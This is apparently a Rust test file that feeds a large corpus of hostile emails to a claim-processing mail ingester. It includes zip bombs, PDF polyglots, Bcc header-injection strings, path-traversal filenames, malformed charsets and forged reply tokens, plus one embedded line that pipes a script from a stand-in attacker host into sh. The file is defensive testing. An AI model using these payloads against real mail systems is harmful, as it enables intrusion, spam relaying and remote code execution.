        let raw = mail(&head, "dari iPhone", &[att(name, ctype, data)]);
        c.push("heic", raw, Expect::Refused(reasons), claim);
    }
    // An empty file named HEIC (no hash to keep out: it has no bytes).
    let (head, claim) = c.head("Re: foto iPhone");
    let raw = mail(&head, "kosong", &[att("IMG_0008.heic", "image/heic", Vec::new())]);
    c.push("heic", raw, Expect::Refused(&["empty"]), claim);
}

/// Zip (and other archive) bombs, whatever they are called.
fn archives(c: &mut Corpus) {
    let archive: &'static [&'static str] = &["archive"];
    let bomb = zip_bomb("invoice.pdf", 64 << 20);
    let inner = zip_bomb("a.bin", 16 << 20);
    let zip_in_zip = zip("inner.zip", 0, crc32(&inner), inner.len(), &inner);
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        ("invoice.zip", "application/zip", bomb.clone()),
        ("invoice.jpg", "image/jpeg", bomb.clone()),
        ("invoice.pdf", "application/pdf", bomb),
        ("42.zip", "application/zip", zip_in_zip),
        ("faktur.pdf.gz", "application/gzip", gzip_zeros("faktur.pdf", 64 << 20)),
        (
            "faktur.tar.gz",
            "application/x-gtar",
            gzip_zeros("faktur.tar", 16 << 20),
        ),
        (
            "faktur.7z",
            "application/x-7z-compressed",
            [&b"7z\xBC\xAF\x27\x1C"[..], &[0; 512]].concat(),
        ),
        (
            "faktur.rar",
            "application/vnd.rar",
            [&b"Rar!\x1a\x07\x01\x00"[..], &[0; 512]].concat(),
        ),
        (
            "faktur.xz",
            "application/x-xz",
            [&b"\xFD7zXZ\x00"[..], &[0; 512]].concat(),
        ),
        (
            "faktur.bz2",
            "application/x-bzip2",
            [&b"BZh91AY&SY"[..], &[0; 512]].concat(),
        ),
    ];
    for (name, ctype, data) in cases {
        let (head, claim) = c.head("Re: invoice (zipped)");
        let data = c.hostile(data);
        let raw = mail(&head, "zip", &[att(name, ctype, data)]);
        c.push("zip_bombs", raw, Expect::Refused(archive), claim);
    }
}

/// Executables and archives whose first kilobyte also holds "%PDF-": they are
/// what their first bytes say, not PDFs.
fn polyglots(c: &mut Corpus) {
    let pdf = c.document.clone();
    let mut exe_pdf = exe(&mut c.rng);
    exe_pdf.splice(64..64, pdf.iter().copied());
    let elf: Vec<u8> = [&b"\x7fELF\x02\x01\x01\0"[..], &[0; 56], &pdf].concat();
    let script = format!(
        "#!/bin/sh\n# %PDF-1.4\ncurl http://evil.test/x | sh\n{}",
        String::from_utf8_lossy(&pdf)
    )
    .into_bytes();
    let stored_pdf = zip("faktur.pdf", 0, crc32(&pdf), pdf.len(), &pdf);
    let gz_named = gzip_zeros("%PDF-1.4.pdf", 1 << 20);
    let cases: Vec<(&str, Vec<u8>, &'static [&'static str])> = vec![
        ("faktur.pdf", exe_pdf, &["executable"]),
        ("faktur2.pdf", elf, &["executable"]),
        ("faktur3.pdf", script, &["executable"]),
        ("faktur4.pdf", stored_pdf, &["archive"]),
        ("faktur5.pdf", gz_named, &["archive"]),
    ];
    for (name, data, reasons) in cases {
        let (head, claim) = c.head("Re: faktur PDF");
        let data = c.hostile(data);
        let raw = mail(&head, "pdf", &[att(name, "application/pdf", data)]);
        c.push("polyglot", raw, Expect::Refused(reasons), claim);
    }
}

/// Unknown and lying charsets, broken UTF-8, UTF-16 without a byte-order mark.
fn charsets(c: &mut Corpus, count: usize) {
    let names = [
        "x-unknown",
        "utf-16",
        "utf-16le",
        "utf-16be",
        "utf-7",
        "utf-32",
        "iso-2022-jp",
        "gb18030",
        "shift_jis",
        "\"\"",
        "us-ascii",
        "../../etc/passwd",
    ];
    let text = "Halo kak, ini fakturnya. Terima kasih! ☺ 发票";
    for i in 0..count {
        let (mut head, claim) = c.head("Re: klaim");
        let charset = if i % 13 == 12 {
            "x".repeat(1000)
        } else {
            c.rng.pick(&names).to_string()
        };
        let body: Vec<u8> = match i % 6 {
            0 => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
            1 => text.encode_utf16().flat_map(u16::to_be_bytes).chain([0xD8]).collect(),
            2 => [
                &b"ok \xC0\xAF \xED\xA0\x80 \xF8\x88\x80\x80\x80 \xFF\xFE "[..],
                text.as_bytes(),
                b"\xE2\x82",
            ]
            .concat(),
            3 => {
                let n = 1 + c.rng.below(4000);
                c.rng.bytes(n)
            }
            4 => [0xD8, 0x00, 0xDC, 0x00, 0xDF, 0xFF, 0x00, 0xD8].repeat(200),
            _ => b"+AGEAYgBj- +2D3eAQ- +ZeVnLIqe-".to_vec(),
        };
        head.subject = match i % 6 {
            // Text that grows when upper-cased, around a subject tag.
            5 => format!("ŉ[RDM-é] ﬃ ß {} Re: [RDM-1042]", "ŉ".repeat(i)),
            0 => encoded_word(&charset, &body[..body.len().min(60)]),
            1 => format!("=?utf-8?Q?=C0=AF=ED=A0=80?= =?{charset}?B?////?= =?utf-8?B?unterminated"),
            2 => encoded_word(
                "utf-16",
                &"Re: klaim"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<_>>(),
            ),
            _ => format!("Re: klaim {}", String::from_utf8_lossy(&body[..body.len().min(40)])),
        };
        if i % 4 == 0 {
            head.from = format!(
                "{} <attacker{i}@evil.test>",
                encoded_word(&charset, &body[..body.len().min(30)])
            );
            if claim == Some(1042) {
                head.from = format!("{} <{BUDI}>", encoded_word(&charset, &body[..body.len().min(30)]));
            }
        }
        let encoding = ["8bit", "base64", "quoted-printable", "7bit", "binary"][i % 5];
        let mut raw = head.render().into_bytes();
        let html = i % 7 == 3;
        raw.extend(
            format!(
                "Content-Type: {}; charset={charset}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n",
                if html { "text/html" } else { "text/plain" }
            )
            .as_bytes(),
        );
        match encoding {
            "base64" => raw.extend(wrapped(&body).as_bytes()),
            "quoted-printable" => raw.extend(percent(&body).replace('%', "=").as_bytes()),
            _ if html => {
                raw.extend(b"<html><body>");
                raw.extend("<div>".repeat(3000).as_bytes());
                raw.extend(&body);
                raw.extend(b"<blockquote><<<<>&#xD800;&#0;&#99999999;<p");
            }
            _ => raw.extend(&body),
        }
        raw.extend(b"\r\n");
        if i % 10 == 9 {
            // A hostile file whose name is in the lying charset.
            let file = c.some_hostile_file();
            let name = encoded_word(&charset, &body[..body.len().min(40)]);
            let files = [Att {
                ctype: format!("application/pdf; name=\"{name}\""),
                disposition: format!("attachment; filename=\"{name}\""),
                data: file.data,
            }];
            c.push(
                "charsets",
                mail(&head, "lampiran", &files),
                Expect::NothingUsable,
                claim,
            );
            continue;
        }
        c.push("charsets", raw, Expect::NothingUsable, claim);
    }
}

/// NUL bytes in header names and values, boundaries, file names and bodies.
fn nul_bytes(c: &mut Corpus, count: usize) {
    for i in 0..count {
        let (mut head, claim) = c.head("Re: klaim");
        let file = c.some_hostile_file();
        let raw = match i % 10 {
            0 => {
                head.subject = "Re: \0klaim\0\0".into();
                mail(&head, "nul subject", &[file])
            }
            1 => {
                head.from = format!("att\0acker{i}@evil.test");
                mail(&head, "nul from", &[file])
            }
            2 => {
                head.to = format!("sup\0port@example.test, {}", head.to);
                mail(&head, "nul to", &[file])
            }
            3 => {
                head.message_id = format!("<nul\0{i}@client.example.test>");
                mail(&head, "nul id", &[file])
            }
            4 => {
                head.extra = "X-\0Bad: v\r\n\0: \0\r\n".into();
                mail(&head, "nul header name", &[file])
            }
            5 => String::from_utf8(mail(&head, "nul boundary", &[file]))
                .unwrap()
                .replace(B, "=_hos\0tile")
                .into_bytes(),
            6 => {
                let name = format!("faktur\0{i}.pdf");
                mail(&head, "nul name", &[att(&name, "application/pdf", file.data)])
            }
            7 => mail(&head, &"\0".repeat(5000), &[file]),
            8 => {
                let mut raw = head.render().into_bytes();
                raw.extend(b"Content-Type: text/plain\r\n\r\nini\0\0\0 faktur\0\r\n");
                raw.extend(vec![0; 10_000]);
                raw
            }
            _ => {
                let mut raw = mail(&head, "nul everywhere", &[file]);
                for k in (0..raw.len()).step_by(37) {
                    raw[k] = 0;
                }
                raw
            }
        };
        c.push("nul_bytes", raw, Expect::NothingUsable, claim);
    }
}

/// CR/LF smuggled into headers (encoded words, folding, bare CR or LF) to add a Bcc.
fn injection(c: &mut Corpus, count: usize) {
    let payloads: [&[u8]; 4] = [
        b"Re: klaim\r\nBcc: victim@evil.test",
        b"Re: klaim\nBcc: victim@evil.test\n\nbody",
        b"Re: klaim\rBcc: victim@evil.test",
        b"Re: klaim\r\n\r\n<html>injected body</html>",
    ];
    for i in 0..count {
        let (mut head, claim) = c.head("Re: klaim");
        let p = payloads[i % payloads.len()];
        match (i / payloads.len()) % 5 {
            0 => head.subject = encoded_word("utf-8", p),
            1 => {
                let name = encoded_word("utf-8", &[&b"Budi\r\nBcc: victim@evil.test\r\n"[..], p].concat());
                head.from = if claim == Some(1042) {
                    format!("{name} <{BUDI}>")
                } else {
                    format!("{name} <attacker{i}@evil.test>")
                };
            }
            2 => {
                head.subject = "Re: klaim\r\n Bcc: victim@evil.test".into();
                head.extra = "bcc: victim2@evil.test\r\nReply-To: victim3@evil.test\r\n".into();
            }
            3 => {
                head.message_id = format!("<inj{i}@client.example.test>\r\n Bcc: victim@evil.test");
                head.extra =
                    "In-Reply-To: <x@y>\r\nBcc: victim@evil.test\r\nReferences: <a@b>\r\n\tBcc: v@evil.test\r\n".into();
            }
            _ => {
                head.subject = "Re: klaim\rBcc: victim@evil.test".into();
                head.extra = format!("Content-Type: text/plain\nBcc: victim@evil.test\r\nX-Id: {}\r\n", i);
            }
        }
        let files = if i % 3 == 0 {
            vec![c.some_hostile_file()]
        } else {
            Vec::new()
        };
        let raw = mail(&head, "Bcc: victim@evil.test\r\n\r\nhalo", &files);
        c.push("header_injection", raw, Expect::NothingUsable, claim);
    }
}

/// 10,000 recipients in To and Cc: strangers, forged tokens, one live token among them.
fn recipients(c: &mut Corpus) {
    for variant in 0..5 {
        let (mut head, _) = c.head("Re: klaim");
        head.from = c.stranger();
        let mut claim = None;
        let list = |c: &mut Corpus, n: usize, forged: bool| -> String {
            (0..n)
                .map(|k| {
                    if forged {
                        format!("support+{}@example.test", c.rng.word(BASE32, 26))
                    } else {
                        format!("\"Person {k}\" <person{k}@recipients.test>")
                    }
                })
                .collect::<Vec<_>>()
                .join(",\r\n ")
        };
        match variant {
            0 => head.to = list(c, 10_000, false),
            1 => {
                head.to = SUPPORT.into();
                head.extra = format!("Cc: {}\r\n", list(c, 10_000, true));
            }
            2 => {
                let (id, token) = c.tokens[0].clone();
                head.to = format!("{},\r\n support+{token}@example.test", list(c, 9_999, true));
                claim = Some(id);
            }
            3 => {
                head.to = list(c, 5_000, false);
                head.extra = format!(
                    "Cc: {}\r\nDelivered-To: support+forged@example.test\r\n",
                    list(c, 5_000, true)
                );
            }
            _ => {
                head.to = (0..10_000)
                    .map(|k| {
                        format!(
                            "{} <p{k}@recipients.test>",
                            encoded_word("utf-8", format!("P\r\n{k}").as_bytes())
                        )
                    })
                    .collect::<Vec<_>>()
                    .join(", ");
            }
        }
        let files = if variant % 2 == 0 {
            vec![c.some_hostile_file()]
        } else {
            Vec::new()
        };
        let raw = mail(&head, "to everyone", &files);
        c.push("recipients", raw, Expect::NothingUsable, claim);
    }
}

/// Attachment names that are paths, hide NULs or control characters, run to
/// 10 KB, or turn text around with right-to-left overrides; on real files
/// (accepted under a safe name) and on hostile ones (refused).
fn paths(c: &mut Corpus) {
    let names: Vec<String> = vec![
        "../../etc/passwd".into(),
        "..\\..\\win.ini".into(),
        "/etc/shadow".into(),
        "/tmp/evil.jpg".into(),
        "C:\\Windows\\System32\\drivers\\etc\\hosts".into(),
        "\\\\server\\share\\evil.jpg".into(),
        "....//....//etc/passwd".into(),
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd".into(),
        "~/.ssh/authorized_keys".into(),
        "faktur\0.jpg".into(),
        "faktur.jpg\0.exe".into(),
        "faktur\u{202E}gpj.exe".into(),
        "\u{202E}fdp.exe".into(),
        "faktur\u{202E}\u{2066}.jpg".into(),
        "x\r\nContent-Type: text/html\r\n\r\n<script>.jpg".into(),
        "\u{FF0E}\u{FF0E}\u{FF0F}\u{FF0E}\u{FF0E}\u{FF0F}passwd".into(),
        ".".into(),
        "..".into(),
        "".into(),
        "CON".into(),
        "nul.jpg".into(),
        format!("{}.jpg", "A".repeat(10_000)),
        format!("{}evil.jpg", "../".repeat(3_400)),
    ];
    let forms = ["quoted", "rfc2231", "encoded", "continued"];
    for (k, name) in names.iter().enumerate() {
        for (f, form) in forms.iter().enumerate() {
            let (head, claim) = c.head("Re: faktur");
            let benign = (k + f) % 2 == 0;
            let (data, ctype) = if benign {
                if k % 3 == 0 {
                    (c.document.clone(), "application/pdf")
                } else {
                    (c.photo.clone(), "image/jpeg")
                }
            } else {
                let data = if k % 2 == 0 {
                    exe(&mut c.rng)
                } else {
                    zip_bomb("x.pdf", 1 << 20)
                };
                (c.hostile(data), "application/octet-stream")
            };
            let bytes = name.as_bytes();
            let (ctype_value, disposition) = match *form {
                "quoted" => (
                    format!("{ctype}; name=\"{}\"", name.replace(['\r', '\n'], "")),
                    format!("attachment; filename=\"{}\"", name.replace(['\r', '\n'], "")),
                ),
                "rfc2231" => (
                    ctype.to_owned(),
                    format!("attachment; filename*=utf-8''{}", percent(bytes)),
                ),
                "encoded" => (
                    format!("{ctype}; name=\"{}\"", encoded_word("utf-8", bytes)),
                    "attachment".to_owned(),
                ),
                _ => {
                    let pieces: Vec<String> = bytes
                        .chunks(40)
                        .enumerate()
                        .map(|(n, p)| {
                            format!(
                                ";\r\n filename*{n}*={}{}",
                                if n == 0 { "utf-8''" } else { "" },
                                percent(p)
                            )
                        })
                        .collect();
                    (ctype.to_owned(), format!("attachment{}", pieces.concat()))
                }
            };
            let a = Att {
                ctype: ctype_value,
                disposition,
                data,
            };
            let raw = mail(&head, "lampiran", &[a]);
            let expect = if benign {
                Expect::MayAccept
            } else {
                Expect::Refused(&["executable", "archive"])
            };
            c.push("path_traversal", raw, expect, claim);
        }
    }
}

/// Reply tokens (and Message-IDs) that are almost ours, from strangers.
fn forged(c: &mut Corpus, count: usize) {
    for i in 0..count {
        let real = c.tokens[i % c.tokens.len()].1.clone();
        let near = |c: &mut Corpus| -> String {
            let mut t: Vec<char> = real.chars().collect();
            match c.rng.below(9) {
                0 => {
                    let at = c.rng.below(t.len());
                    t[at] = if t[at] == 'a' { 'b' } else { 'a' };
                }
                1 => {
                    t.pop();
                }
                2 => t.push('a'),
                3 => {
                    let at = c.rng.below(t.len() - 1);
                    t.swap(at, at + 1);
                    if t.iter().collect::<String>() == real {
                        t[0] = if t[0] == 'z' { 'y' } else { 'z' };
                    }
                }
                4 => t = real.to_uppercase().chars().collect(),
                5 => t = "_".repeat(26).chars().collect(),
                6 => t = format!("{}%", &real[..20]).chars().collect(),
                7 => t = format!("{real}'--").chars().collect(),
                _ => t = format!("{}_", &real[..25]).chars().collect(),
            }
            t.into_iter().collect()
        };
        let message_id = c.message_id();
        let token = if i % 2 == 0 { c.rng.word(BASE32, 26) } else { near(c) };
        let to = match i % 7 {
            0 => format!("support+{token}@example.test.evil.test"),
            1 => format!("supp0rt+{token}@example.test"),
            2 => format!("\"support+{real}@example.test\" <support+{token}@example.test>"),
            3 => format!("attacker@evil.test (support+{real}@example.test)"),
            4 => format!("support+{token}+{token}@example.test"),
            _ => format!("support+{token}@example.test"),
        };
        let mut extra = String::new();
        if i % 5 == 0 {
            let parent = c.rejection_ids[i % c.rejection_ids.len()].replace("@example.test>", "@example.test.evil>");
            let _ = write!(
                extra,
                "In-Reply-To: {parent}\r\nReferences: <{token}@example.test.evil>\r\n"
            );
        }
        let head = Head {
            from: format!("forger{i}@evil.test"),
            to,
            subject: "Re: klaim".into(),
            message_id,
            extra,
        };
        let files = match i % 3 {
            0 => vec![att("faktur.jpg", "image/jpeg", c.photo.clone())],
            1 => vec![c.some_hostile_file()],
            _ => Vec::new(),
        };
        let raw = mail(&head, "pakai token ini", &files);
        c.push("forged_tokens", raw, Expect::Forged, None);
    }
}

// ---------------------------------------------------------------------------
// Checking outcomes.

#[derive(Default)]
struct Tally {
    /// category -> action -> count
    actions: BTreeMap<&'static str, BTreeMap<&'static str, usize>>,
    /// category -> rejection reason -> count
    reasons: BTreeMap<&'static str, BTreeMap<String, usize>>,
    emails: usize,
    bytes: usize,
    raw_shas: HashSet<String>,
    accepted_shas: HashSet<String>,
    recorded: usize,
    problems: Vec<String>,
}

const PHASE_ONE: &str = "no usable file";

fn safe_stored_name(name: &str) -> bool {
    let Some((stem, ext)) = name.rsplit_once('.') else {
        return false;
    };
    ["jpg", "png", "gif", "pdf"].contains(&ext)
        && !stem.is_empty()
        && stem.len() <= 60
        && stem.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
}

impl Tally {
    fn problem(&mut self, case: &Case, i: usize, what: String) {
        let head: String = String::from_utf8_lossy(&case.raw[..case.raw.len().min(120)])
            .escape_debug()
            .collect();
        self.problems
            .push(format!("[{} #{i}] {what}  (starts {head})", case.category));
    }

    fn record(
        &mut self,
        case: &Case,
        i: usize,
        phase: &str,
        result: Result<Ingested, impl std::fmt::Display>,
        hostile: &HashSet<String>,
    ) {
        self.emails += 1;
        self.bytes += case.raw.len();
        self.raw_shas.insert(sha256_hex(&case.raw));
        let done = match result {
            Ok(done) => done,
            Err(e) => {
                *self
                    .actions
                    .entry(case.category)
                    .or_default()
                    .entry("ERROR")
                    .or_default() += 1;
                return self.problem(case, i, format!("ingest failed: {e}"));
            }
        };
        *self
            .actions
            .entry(case.category)
            .or_default()
            .entry(done.action.as_str())
            .or_default() += 1;
        let r = &done.report;
        if done.duplicate {
            self.problem(case, i, "seen as a duplicate of another case".into());
        } else {
            self.recorded += 1;
        }
        if r["action"].as_str() != Some(done.action.as_str()) {
            self.problem(
                case,
                i,
                format!("report action {} against {:?}", r["action"], done.action),
            );
        }
        let accepted = r["accepted_attachments"].as_array().cloned().unwrap_or_default();
        let rejected = r["rejected_attachments"].as_array().cloned().unwrap_or_default();
        for a in &accepted {
            let sha = a["sha256"].as_str().unwrap_or_default().to_owned();
            if hostile.contains(&sha) {
                self.problem(case, i, format!("a hostile file was accepted: {a}"));
            }
            let name = a["filename"].as_str().unwrap_or_default();
            if !safe_stored_name(name) {
                self.problem(case, i, format!("accepted under an unsafe name {name:?}"));
            }
            self.accepted_shas.insert(sha);
        }
        for x in &rejected {
            let reason = x["reason"].as_str().unwrap_or("(none)").to_owned();
            *self
                .reasons
                .entry(case.category)
                .or_default()
                .entry(reason)
                .or_default() += 1;
            let name = x["filename"].as_str().unwrap_or_default();
            if name.contains(['/', '\\']) || name.chars().any(char::is_control) || name.chars().count() > 100 {
                self.problem(case, i, format!("refused file shown as {name:?}"));
            }
        }
        if done.action == MailAction::Resubmitted && accepted.is_empty() {
            self.problem(case, i, "resubmitted without an accepted file".into());
        }
        let phase_one = phase == PHASE_ONE;
        if phase_one && matches!(done.action, MailAction::Resubmitted | MailAction::AnsweredStatus) {
            self.problem(
                case,
                i,
                format!("{:?} while every claim it could reach is rejected", done.action),
            );
        }
        match case.expect {
            Expect::Refused(reasons) => {
                if !accepted.is_empty() {
                    self.problem(case, i, format!("accepted {accepted:?}"));
                }
                if !matches!(done.action, MailAction::Quarantined | MailAction::Ignored) {
                    if rejected.is_empty() {
                        self.problem(case, i, format!("{:?} with no file refused", done.action));
                    }
                    for x in &rejected {
                        if !reasons.contains(&x["reason"].as_str().unwrap_or_default()) {
                            self.problem(
                                case,
                                i,
                                format!("refused as {} (expected one of {reasons:?})", x["reason"]),
                            );
                        }
                    }
                }
                if phase_one
                    && let Some(claim) = case.claim
                    && done.action != MailAction::AskedForAttachment
                {
                    self.problem(
                        case,
                        i,
                        format!(
                            "tied to rejected RDM-{} but {:?} ({})",
                            claim, done.action, r["matched_by"]
                        ),
                    );
                }
            }
            Expect::NothingUsable => {
                if !accepted.is_empty() {
                    self.problem(case, i, format!("accepted {accepted:?}"));
                }
                if phase_one && r["matched_by"] == "token" && done.action != MailAction::AskedForAttachment {
                    self.problem(
                        case,
                        i,
                        format!("a live token with no usable file but {:?}", done.action),
                    );
                }
            }
            Expect::MayAccept => {}
            Expect::Forged => {
                if r["matched_by"] == "token" || r["matched_by"] == "in_reply_to" {
                    self.problem(case, i, format!("a forged handle matched by {}", r["matched_by"]));
                }
                // Escalated, or quarantined once this hour's escalations
                // (`MAX_MAIL_ESCALATIONS`) are used up by the corpus itself.
                if !matches!(done.action, MailAction::Escalated | MailAction::Quarantined) {
                    self.problem(case, i, format!("a forged handle from a stranger: {:?}", done.action));
                }
            }
        }
    }
}

async fn run_concurrently(
    ingest: &Ingestor,
    cases: Vec<Case>,
    phase: &str,
    tally: &mut Tally,
    hostile: &HashSet<String>,
) {
    let mut results = futures::stream::iter(cases.into_iter().enumerate())
        .map(|(i, case)| async move {
            let result = ingest.ingest(&case.raw, Utc::now()).await;
            (i, case, result)
        })
        .buffer_unordered(IN_FLIGHT);
    while let Some((i, case, result)) = results.next().await {
        tally.record(&case, i, phase, result, hostile);
    }
}

/// Every file under `dir`, as paths relative to it.
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(d) = pending.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                pending.push(path);
            } else {
                out.push(path.strip_prefix(dir).unwrap().to_path_buf());
            }
        }
    }
    out
}

fn names_in(dir: &Path) -> HashSet<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// What a replay must not change: every handled message, the outbox, open
/// escalations, and each demo claim's status, history and files.
async fn snapshot(db: &Db) -> String {
    let mut tx = db.begin().await.unwrap();
    let mut out = format!(
        "inbound: {:?}\njobs: {}\nescalations: {:?}\n",
        tx.inbound_mail_actions().await.unwrap(),
        tx.jobs(None, 1_000_000).await.unwrap().len(),
        tx.open_mail_escalations().await.unwrap()
    );
    for id in 1042..=1047 {
        let rec = tx.redemption(id).await.unwrap().unwrap();
        let history = tx.history(id).await.unwrap().len();
        let files: Vec<String> = tx
            .attachments(id)
            .await
            .unwrap()
            .into_iter()
            .map(|a| a.attachment.sha256)
            .collect();
        let _ = writeln!(
            out,
            "{id}: {:?} history {history} files {files:?}",
            rec.redemption.status()
        );
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_hostile_emails_each_get_a_clear_action_and_leave_nothing_behind() {
    let hwm_start = vm_hwm_kb();
    let test_db = TestDb::sqlite().await;
    let db = test_db.db.clone();
    import_json(&db, DEMO_JSON, Utc::now()).await.unwrap();
    // The blob directory inside a directory of its own: anything written beside it shows.
    let root = tempfile::tempdir().unwrap();
    let blob_dir = root.path().join("blobs");
    std::fs::create_dir(&blob_dir).unwrap();
    let outside = root.path().parent().unwrap().to_path_buf();
    let outside_before = names_in(&outside);
    let ingest = Ingestor::new(db.clone(), BlobStore::new(&blob_dir), settings());

    // Live reply tokens: 1044 and 1046 rejected by staff now (1042 is rejected
    // in the demo data; its member writing from his address matches it).
    let mut tokens = Vec::new();
    let mut rejection_ids = Vec::new();
    for id in [1044, 1046] {
        let (token, message_id) = reject(&db, id).await;
        tokens.push((id, token));
        rejection_ids.push(message_id);
    }

    let mut c = Corpus::new(tokens.clone(), rejection_ids);
    broken_mime(&mut c, 280);
    truncated(&mut c, 220);
    nested(&mut c);
    bombs(&mut c);
    heic(&mut c);
    archives(&mut c);
    polyglots(&mut c);
    charsets(&mut c, 130);
    nul_bytes(&mut c, 60);
    injection(&mut c, 80);
    recipients(&mut c);
    paths(&mut c);
    forged(&mut c, 200);
    let hostile = std::mem::take(&mut c.hostile);
    let mut seen = HashSet::new();
    let cases: Vec<Case> = std::mem::take(&mut c.cases)
        .into_iter()
        .filter(|case| seen.insert(sha256_hex(&case.raw)))
        .collect();
    let (may_accept, no_file): (Vec<Case>, Vec<Case>) = cases
        .into_iter()
        .partition(|case| matches!(case.expect, Expect::MayAccept | Expect::Forged));
    let hwm_built = vm_hwm_kb();

    let mut tally = Tally::default();
    // 1. Nothing usable in any of these: the rejected claims stay rejected.
    run_concurrently(&ingest, no_file, PHASE_ONE, &mut tally, &hostile).await;
    for id in [1042, 1044, 1046] {
        let rec = db.begin().await.unwrap().redemption(id).await.unwrap().unwrap();
        if rec.redemption.status() != Status::Rejected {
            let status = rec.redemption.status();
            tally
                .problems
                .push(format!("RDM-{id} is {status:?} after mails without a usable file"));
        }
    }

    // 2. The heavy ones, one at a time, each built just before it is read.
    let mut heavy_hostile = hostile.clone();
    for k in 0..6 {
        let (head, claim) = c.head("Re: faktur besar");
        let (name, ctype, data, expect): (&str, &str, Vec<u8>, Expect) = match k {
            // 25 MB each (over the 20 MiB limit), base64 in the mail.
            0 => {
                let mut d = b"%PDF-1.4\n".to_vec();
                d.extend(c.rng.bytes(25 << 20));
                ("faktur.pdf", "application/pdf", d, Expect::Refused(&["too_large"]))
            }
            1 => {
                let mut d = eml::jpeg(64, 64);
                d.resize(25 << 20, 0);
                ("faktur.jpg", "image/jpeg", d, Expect::Refused(&["too_large"]))
            }
            2 => (
                "faktur.png",
                "image/png",
                c.rng.bytes(25 << 20),
                Expect::Refused(&["too_large"]),
            ),
            // Pixel bombs within the limits: 6000×6000 RGBA (144 MB of pixels from
            // under 1 MB of PNG), and headers claiming the same over a sliver of data.
            3 => {
                let rows = 6000 * (1 + 6000 * 4);
                (
                    "zeros.png",
                    "image/png",
                    png(6000, 6000, 8, 6, &zlib_zeros(rows)),
                    Expect::MayAccept,
                )
            }
            4 => ("claims.jpg", "image/jpeg", jpeg_claiming(6000, 6000), Expect::MayAccept),
            _ => (
                "claims.png",
                "image/png",
                png(6000, 6000, 8, 6, &zlib_zeros(1 << 16)),
                Expect::MayAccept,
            ),
        };
        let hostile_file = matches!(expect, Expect::Refused(_));
        // The within-limits bombs go to staff (a stranger writing): they may be
        // kept, but must not change a claim in this phase.
        let head = if hostile_file {
            head
        } else {
            Head {
                from: "bomber@evil.test".into(),
                to: SUPPORT.into(),
                ..head
            }
        };
        if hostile_file {
            heavy_hostile.insert(sha256_hex(&data));
        } else {
            // Kept as the original of a review copy if it decodes.
            c.benign.insert(sha256_hex(&data));
        }
        let case = Case {
            category: "heavy",
            raw: mail(&head, "besar", &[att(name, ctype, data)]),
            expect,
            claim: if hostile_file { claim } else { None },
        };
        let result = ingest.ingest(&case.raw, Utc::now()).await;
        if let Ok(done) = &result {
            eprintln!(
                "hostile_mail: heavy {name} ({} bytes): {} accepted {} refused {}",
                case.raw.len(),
                done.action.as_str(),
                done.report["accepted_attachments"],
                done.report["rejected_attachments"]
            );
        }
        tally.record(&case, k, PHASE_ONE, result, &heavy_hostile);
    }
    let hostile = heavy_hostile;

    // 3. Broken mail around real files, real files under hostile names, forged tokens.
    run_concurrently(&ingest, may_accept, "may accept", &mut tally, &hostile).await;

    // 4. Replays: the same message again, or its Message-ID on other bytes.
    let mut replays = 0;
    for k in 0..20 {
        let message_id = format!("<replay-{k}@client.example.test>");
        let original = match k % 4 {
            // A live token and a real invoice: resubmitted the first time.
            0 => {
                let id = [1044, 1046][k / 4 % 2];
                let token = rejected(&db, id, &tokens).await;
                let head = Head {
                    from: "someone@elsewhere.test".into(),
                    to: format!("support+{token}@example.test"),
                    subject: "Re: klaim".into(),
                    message_id: message_id.clone(),
                    extra: String::new(),
                };
                mail(
                    &head,
                    "faktur",
                    &[att("faktur.jpg", "image/jpeg", eml::jpeg(64 + k as u32, 64))],
                )
            }
            1 => {
                let token = rejected(&db, 1044, &tokens).await;
                let head = Head {
                    from: "someone@elsewhere.test".into(),
                    to: format!("support+{token}@example.test"),
                    subject: "Re: klaim".into(),
                    message_id: message_id.clone(),
                    extra: String::new(),
                };
                let data = exe(&mut c.rng);
                mail(&head, "exe", &[att("faktur.pdf", "application/pdf", data)])
            }
            2 => {
                let head = Head {
                    from: "stranger@elsewhere.test".into(),
                    to: SUPPORT.into(),
                    subject: "halo".into(),
                    message_id: message_id.clone(),
                    extra: String::new(),
                };
                mail(&head, "siapa", &[])
            }
            _ => {
                let mut raw = b"\x00\x01 garbage without a Message-ID ".to_vec();
                raw.extend(c.rng.bytes(64));
                raw
            }
        };
        let first = ingest.ingest(&original, Utc::now()).await.unwrap();
        assert!(!first.duplicate, "replay {k}: the first copy is new");
        tally.raw_shas.insert(sha256_hex(&original));
        for a in first.report["accepted_attachments"].as_array().unwrap() {
            tally.accepted_shas.insert(a["sha256"].as_str().unwrap().to_owned());
        }
        let before = snapshot(&db).await;
        // The same bytes, then (when it has one) the same Message-ID on a hostile mail
        // with a live token: both are duplicates and change nothing.
        let mut again = vec![original.clone()];
        if k % 4 != 3 {
            let (token, _) = tokens[k % 2].clone();
            let head = Head {
                from: BUDI.into(),
                to: format!("support+{token}@example.test"),
                subject: "Re: [RDM-1042] replay".into(),
                message_id: message_id.clone(),
                extra: String::new(),
            };
            let data = zip_bomb("faktur.pdf", 1 << 20);
            again.push(mail(
                &head,
                "replayed id",
                &[att("faktur.pdf", "application/pdf", data)],
            ));
        }
        for raw in again {
            let done = ingest.ingest(&raw, Utc::now()).await.unwrap();
            assert!(done.duplicate, "replay {k}: {:?}", done.report);
            assert_eq!(done.action, MailAction::Ignored, "replay {k}");
            assert_eq!(done.report["action"], "ignored");
            assert_eq!(
                done.redemption_id, first.redemption_id,
                "replay {k}: reported as before"
            );
            tally.raw_shas.insert(sha256_hex(&raw));
            replays += 1;
        }
        assert_eq!(snapshot(&db).await, before, "replay {k} changed something");
        let action = if k % 4 == 0 {
            "resubmitted"
        } else {
            first.action.as_str()
        };
        *tally
